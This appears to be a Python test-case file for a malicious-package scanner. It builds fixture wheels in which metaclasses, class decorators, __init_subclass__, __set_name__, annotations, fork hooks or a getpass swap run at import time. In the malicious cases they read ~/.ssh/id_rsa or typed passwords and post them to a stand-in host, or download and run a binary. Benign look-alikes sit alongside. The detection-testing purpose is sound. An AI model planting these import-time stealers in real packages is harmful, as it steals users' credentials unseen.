"""Code that runs when a class or function is *defined*, at import, without any call:
metaclasses, `__init_subclass__`, `__set_name__`, class decorators, annotations evaluated
at definition, fork hooks and module objects swapped into `sys.modules`."""

from __future__ import annotations

from techniques import Case

STEAL = ("key = open(os.path.expanduser('~/.ssh/id_rsa')).read()\n"
         "urllib.request.urlopen('https://k.x.invalid/u', data=key.encode())\n")


def _body(text: str, indent: int) -> str:
    return "".join(" " * indent + line + "\n" for line in text.splitlines())


def _init(name: str, body: str) -> dict[str, str | bytes]:
    return {f"{name}/__init__.py": "import os, sys, urllib.request\n\n" + body}


def _sibling_stealer(name: str, imported: str, models: str) -> dict[str, str | bytes]:
    """A package whose `__init__` imports `models.py`, which names no capability and calls
    `push` from `_sync.py`, the stealer, when it runs."""
    return {f"{name}/__init__.py": f"from .models import {imported}  # noqa\n",
            f"{name}/_sync.py": "import os, urllib.request\n\n\ndef push(name):\n"
                                + _body(STEAL, 4),
            f"{name}/models.py": "from ._sync import push\n\n\n" + models}


CASES = [
    Case("metaclass __new__ steals when a class is defined", "metasteal", _init(
        "metasteal", "class _Meta(type):\n    def __new__(mcs, name, bases, ns):\n"
                     + _body(STEAL, 8) + "        return super().__new__(mcs, name, bases, ns)"
                     "\n\n\nclass Model(metaclass=_Meta):\n    pass\n"),
        "malicious", ("PV303",), kind="wheel"),
    Case("metaclass imported from a sibling, named on a class header spread over lines (the "
         "class's module names no capability)", "metaheader", {
        "metaheader/__init__.py": "from .models import Model  # noqa\n",
        "metaheader/_meta.py": ("import os, urllib.request\n\n\nclass Registry(type):\n"
                                "    def __new__(mcs, name, bases, ns):\n" + _body(STEAL, 8)
                                + "        return super().__new__(mcs, name, bases, ns)\n"),
        "metaheader/models.py": ("from ._meta import Registry\n\n\nclass Model(\n    object,\n"
                                 "    metaclass=Registry,\n):\n    pass\n"),
    }, "malicious", ("PV303",), kind="wheel"),
    Case("local metaclass whose __new__ calls a sibling's function (the class's module names no "
         "capability)", "metalocal", _sibling_stealer(
        "metalocal", "Model", "class _Meta(type):\n    def __new__(mcs, name, bases, ns):\n"
        "        push(name)\n        return super().__new__(mcs, name, bases, ns)\n\n\n"
        "class Model(metaclass=_Meta):\n    pass\n"), "malicious", ("PV303",), kind="wheel"),
    Case("an instance made at import whose constructor calls a sibling's function (the class's "
         "module names no capability)", "ctorsibling", _sibling_stealer(
        "ctorsibling", "LOADER", "class Loader:\n    def __init__(self):\n        push('loader')"
        "\n\n\nLOADER = Loader()\n"), "malicious", ("PV303",), kind="wheel"),
    Case("__init_subclass__ of a base in another module", "subclasshook", {
        "subclasshook/__init__.py": "from .models import User  # noqa\n",
        "subclasshook/base.py": ("import os, urllib.request\n\n\nclass Base:\n"
                                 "    def __init_subclass__(cls, **kw):\n" + _body(STEAL, 8)),
        "subclasshook/models.py": "from .base import Base\n\n\nclass User(Base):\n    pass\n",
    }, "malicious", ("PV303",), kind="wheel"),
    Case("descriptor __set_name__ runs in a class body", "setname", _init(
        "setname", "class Field:\n    def __set_name__(self, owner, name):\n" + _body(STEAL, 8)
                   + "\n\nclass Model:\n    x = Field()\n"),
        "malicious", ("PV303",), kind="wheel"),
    Case("class decorator steals", "classdeco", _init(
        "classdeco", "def register(cls):\n" + _body(STEAL, 4) + "    return cls\n\n\n"
                     "@register\nclass Model:\n    pass\n"),
        "malicious", ("PV303",), kind="wheel"),
    Case("function annotation evaluated at definition", "annotsteal", _init(
        "annotsteal", "def _k():\n" + _body(STEAL, 4) + "    return int\n\n\n"
                      "def f(x: _k()) -> None:\n    pass\n"),
        "malicious", ("PV303",), kind="wheel"),
    Case("os.register_at_fork hook in every child process", "atfork", _init(
        "atfork", "def _child():\n" + _body(STEAL, 4)
                  + "\n\nos.register_at_fork(after_in_child=_child)\n"),
        "malicious", ("PV303",), kind="wheel"),
    Case("sys.modules['getpass'] replaced by an object that sends passwords", "gpswap", _init(
        "gpswap", "class _GP:\n    def getpass(self, prompt='Password: '):\n"
                  "        import getpass as g\n        pw = g.getpass(prompt)\n"
                  "        urllib.request.urlopen('https://k.x.invalid/p', data=pw.encode())\n"
                  "        return pw\n\n\nsys.modules['getpass'] = _GP()\n"),
        "malicious", ("PV324",), kind="wheel"),
    # benign look-alikes
    Case("ORM metaclass collecting fields, plugin registry via __init_subclass__", "tinyorm", _init(
        "tinyorm",
        "REGISTRY = {}\n\n\nclass Field:\n    def __set_name__(self, owner, name):\n"
        "        self.name = name\n\n\nclass _Meta(type):\n"
        "    def __new__(mcs, name, bases, ns):\n"
        "        ns['_fields'] = [k for k, v in ns.items() if isinstance(v, Field)]\n"
        "        return super().__new__(mcs, name, bases, ns)\n\n\n"
        "class Model(metaclass=_Meta):\n"
        "    def __init_subclass__(cls, **kw):\n        REGISTRY[cls.__name__] = cls\n\n\n"
        "class User(Model):\n    name = Field()\n"),
        "benign", kind="wheel"),
    Case("an instance made at import whose constructor reads a sibling's bundled defaults, "
         "in a module that names no capability", "ctorconfig", {
        "ctorconfig/__init__.py": "from .models import SETTINGS  # noqa\n",
        "ctorconfig/_defaults.py": ("import json\nimport os\n\n\ndef read(name):\n"
                                    "    here = os.path.dirname(__file__)\n"
                                    "    with open(os.path.join(here, name)) as fh:\n"
                                    "        return json.load(fh)\n"),
        "ctorconfig/defaults.json": '{"retries": 3}\n',
        "ctorconfig/models.py": ("from ._defaults import read\n\n\nclass Settings:\n"
                                 "    def __init__(self):\n"
                                 "        self.values = read('defaults.json')\n\n\n"
                                 "SETTINGS = Settings()\n"),
    }, "benign", kind="wheel"),
    Case("a class defined (never made) at import, in a module that names no capability, whose "
         "constructor starts a helper binary that a sibling downloads (gradio's share tunnel)",
         "tunnelhelper", {
        "tunnelhelper/__init__.py": "from .share import Tunnel  # noqa\n",
        "tunnelhelper/_binary.py": (
            "import os\nimport stat\nimport subprocess\nimport urllib.request\n\n\n"
            "def start(dest):\n"
            "    urllib.request.urlretrieve('https://cdn.example.invalid/frpc', dest)\n"
            "    os.chmod(dest, os.stat(dest).st_mode | stat.S_IEXEC)\n"
            "    return subprocess.Popen([dest, 'http'])\n"),
        "tunnelhelper/share.py": ("from ._binary import start\n\n\ndef export(name):\n"
                                  "    return lambda cls: cls\n\n\n"
                                  "@export('tunnelhelper.Tunnel')\n"
                                  "class Tunnel(object):\n"
                                  "    def __init__(self, dest='/tmp/frpc'):\n"
                                  "        self.proc = start(dest)\n"),
    }, "benign", kind="wheel"),
    # The cheapest evasion of not reading a class header as a call: make it on the next line.
    Case("a class defined and made at import in a module that names no capability; its "
         "constructor runs a sibling's download-and-run", "tunnelnow", {
        "tunnelnow/__init__.py": "from .share import TUNNEL  # noqa\n",
        "tunnelnow/_binary.py": (
            "import os\nimport stat\nimport subprocess\nimport urllib.request\n\n\n"
            "def start(dest):\n"
            "    urllib.request.urlretrieve('http://203.0.113.9/frpc', dest)\n"
            "    os.chmod(dest, os.stat(dest).st_mode | stat.S_IEXEC)\n"
            "    return subprocess.Popen([dest, 'http'])\n"),
        "tunnelnow/share.py": ("from ._binary import start\n\n\n"
                               "class Tunnel(object):\n"
                               "    def __init__(self, dest='/tmp/.frpc'):\n"
                               "        self.proc = start(dest)\n\n\n"
                               "TUNNEL = Tunnel()\n"),
    }, "malicious", ("PV301",), kind="wheel"),
    Case("a registry metaclass imported from a sibling, named on a header spread over lines",
         "metaregistry", {
        "metaregistry/__init__.py": "from .models import Model  # noqa\n",
        "metaregistry/_meta.py": ("import logging\n\nREGISTRY = {}\n\n\nclass Registry(type):\n"
                                  "    def __new__(mcs, name, bases, ns):\n"
                                  "        cls = super().__new__(mcs, name, bases, ns)\n"
                                  "        REGISTRY[name] = cls\n"
                                  "        logging.getLogger(__name__).debug('registered %s', name)\n"
                                  "        return cls\n"),
        "metaregistry/models.py": ("from ._meta import Registry\n\n\nclass Model(\n    object,\n"
                                   "    metaclass=Registry,\n):\n    pass\n"),
    }, "benign", kind="wheel"),
    Case("annotations naming runtime types, fork hook reseeding a RNG", "typedrng", _init(
        "typedrng",
        "import random\nfrom typing import Optional\n\n\n"
        "def pick(seq: list, default: Optional[int] = None) -> Optional[int]:\n"
        "    return random.choice(seq) if seq else default\n\n\n"
        "os.register_at_fork(after_in_child=random.seed)\n"),
        "benign", kind="wheel"),
    Case("class decorator registering a command; sys.modules alias for a renamed module",
         "cmdreg", {
        "cmdreg/__init__.py": (
            "import sys\nfrom . import _compat\n\nCOMMANDS = {}\n\n\n"
            "def command(cls):\n    COMMANDS[cls.__name__.lower()] = cls\n    return cls\n\n\n"
            "@command\nclass Sync:\n    def run(self):\n        return 'ok'\n\n\n"
            "sys.modules['cmdreg.compat'] = _compat\n"),
        "cmdreg/_compat.py": "import json\n\nloads = json.loads\n",
    }, "benign", kind="wheel"),
]
